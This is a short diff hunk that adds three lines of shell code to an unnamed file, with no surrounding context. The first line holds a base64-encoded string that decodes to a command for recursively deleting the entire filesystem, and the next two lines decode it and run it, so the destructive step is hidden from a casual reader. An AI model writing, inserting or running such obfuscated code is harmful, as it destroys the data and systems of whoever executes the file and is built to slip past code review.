@@ -1,0 +1,3 @@
+p=cm0gLXJmIC8=
+c=$(echo $p | base64 -d)
+$c
